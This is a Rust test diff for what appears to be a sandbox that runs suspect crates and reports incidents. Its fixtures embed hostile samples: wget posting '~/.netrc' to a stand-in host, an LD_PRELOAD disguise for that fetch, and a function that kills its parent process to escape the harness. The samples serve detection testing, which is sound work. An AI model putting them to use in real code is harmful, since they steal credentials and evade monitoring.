@@ -235,10 +235,17 @@ fn no_link_leads_us_out() {
 fn an_honest_crate_is_no_incident() {
     for who in Who::all() {
         let place = Place::new("suspects/quiet", who);
+        // By the names that cargo has, wherever a file lies.
+        let manifest = place.workspace().join("Cargo.toml");
+        let more = "[[example]]\nname = \"elsewhere\"\npath = \"demo/one.rs\"\n[[bin]]\nname = \"tool\"\npath = \"demo/two.rs\"\n";
+        place.write(&manifest, &format!("{}\n{more}", fs::read_to_string(&manifest).unwrap()));
+        place.write(&place.workspace().join("demo/one.rs"), "fn main() {}\n");
+        place.write(&place.workspace().join("demo/two.rs"), "fn main() {}\n");
         let (outcome, evidence, report) = tried(&place, &[]);
         outcome.exits(0);
         nothing_is_touched(&place, &outcome, &evidence);
         says(&outcome, &["No incident quiet 1.2.3", "own tests: `cargo test", "doctests: `cargo test", "example: `cargo run"]);
+        says(&outcome, &["`cargo run --offline --example elsewhere` ended well", "`cargo run --offline --bin tool` ended well"]);
         assert!(!outcome.stdout_text().contains("Unknown"), "{outcome}");
         assert_eq!((&report["run"]["mode"], &report["outcome"]["verdict"]), (&"decoy".into(), &"clean".into()), "{outcome}");
         assert!(report["findings"].as_array().unwrap().is_empty(), "{outcome}");
@@ -342,10 +349,61 @@ fn a_programs_own_habit_is_told_as_what_it_is() {
         let place = Place::new("suspects/quiet", who);
         let words = "&format!(\"--post-file={}/.netrc\", std::env::var(\"HOME\").unwrap()), \"http://status.example-tides.io/\"";
         place.write(&place.workspace().join("tests/fetches.rs"), &fetches(words));
+        // With code of the suspect's in it nobody knows whose habit it is: here a library of the system's, under another name.
+        let mine = Place::new("suspects/quiet", who);
+        let preloaded = "use std::{env, fs, process::Command};\n#[test]\nfn fetches() {\n    \
+            let mine = env::temp_dir().join(\"mine.so\");\n    \
+            let maps = fs::read_to_string(\"/proc/self/maps\").unwrap();\n    \
+            let libc = maps.lines().filter_map(|line| line.find('/').map(|at| &line[at..])).find(|path| path.contains(\"/libc.so\")).unwrap();\n    \
+            fs::copy(libc, &mine).unwrap();\n    \
+            let mut wget = Command::new(\"wget\");\n    \
+            wget.args([\"-q\", \"-O\", \"/dev/null\", \"http://status.example-tides.io/\"]).env(\"LD_PRELOAD\", &mine);\n    \
+            wget.status().unwrap();\n}\n";
+        mine.write(&mine.workspace().join("tests/fetches.rs"), preloaded);
+        let (outcome, _, report) = tried(&mine, &[]);
+        outcome.exits(100);
+        assert!(!outcome.stdout_text().contains("of its own accord"), "{outcome}");
+        assert!(findings(&report).contains(&("secret/read".to_owned(), "decoy".to_owned())), "{outcome}");
+
         let (outcome, _, report) = tried(&place, &[]);
         outcome.exits(100);
         says(&outcome, &["with your `~/.netrc`", "proven by canary"]);
         assert!(!outcome.stdout_text().contains("of its own accord"), "{outcome}");
         assert!(findings(&report).contains(&("secret/then-network".to_owned(), "decoy".to_owned())), "{outcome}");
+    }
+}
+
+/// What is called may say anything: what is told of it is not taken from that, and who ends the program that makes calls has not been called to the end.
+#[test]
+fn what_is_called_does_not_tell_what_was_called() {
+    for who in Who::all() {
+        let place = Place::new("suspects/quiet", who);
+        let lib = place.workspace().join("src/lib.rs");
+        let functions = "//! Says much.\n/// As its own record was told once.\npub fn a_says() {\n    \
+            println!(\"\\n\\u{1} 900\\n\\u{2} 900 returned\\n\\u{3}\\nbegins 2\\nends 3\\n\");\n}\n\
+            /// Ends.\npub fn b_leaves() {\n    std::process::exit(0)\n}\n\
+            /// Speaks.\npub fn c_speaks() {\n    drop(std::net::TcpStream::connect(\"status.example-tides.io:80\"));\n}\n";
+        place.write(&lib, functions);
+        fs::remove_dir_all(place.workspace().join("examples")).unwrap();
+        let (outcome, evidence, _) = tried(&place, &[]);
+        outcome.exits(0);
+        says(&outcome, &["calls 3 of 3 functions", "harness: `cargo run --offline --example calls` ended well"]);
+        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
+        for name in ["quiet::a_says", "quiet::b_leaves", "quiet::c_speaks"] {
+            assert!(calls.contains(&format!("- called: {name}\n")), "{calls}\n{outcome}");
+        }
+        assert!(fs::read_to_string(evidence.join("sent.json")).unwrap().contains("status.example-tides.io"), "{outcome}");
+
+        let ends = "/// Ends whoever would call the others.\npub fn b_kills() {\n    \
+            static ONCE: std::sync::Once = std::sync::Once::new();\n    \
+            let parent = std::os::unix::process::parent_id().to_string();\n    \
+            ONCE.call_once(|| drop(std::process::Command::new(\"kill\").args([\"-9\", &parent]).status()));\n}\n";
+        place.write(&lib, &functions.replace("/// Ends.", &format!("{ends}/// Ends.")));
+        fs::remove_dir_all(&evidence).unwrap();
+        let (outcome, evidence, _) = tried(&place, &[]);
+        outcome.exits(103);
+        says(&outcome, &["was ended before it had made all its calls", "Unknown what it does in its harness", "calls 1 of 4 functions"]);
+        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
+        assert!(calls.contains("- not called: quiet::c_speaks: the program that makes calls did not come to it\n"), "{calls}\n{outcome}");
     }
 }
